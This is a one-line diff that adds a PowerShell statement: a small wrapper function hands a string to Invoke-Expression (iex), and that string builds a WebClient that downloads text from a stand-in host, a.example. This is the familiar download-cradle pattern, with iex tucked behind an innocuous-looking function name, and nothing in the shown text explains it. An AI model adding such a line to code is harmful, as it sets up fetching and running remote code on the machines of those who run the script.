@@ -1,0 +1,1 @@
+function go($x){ iex $x }; go '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
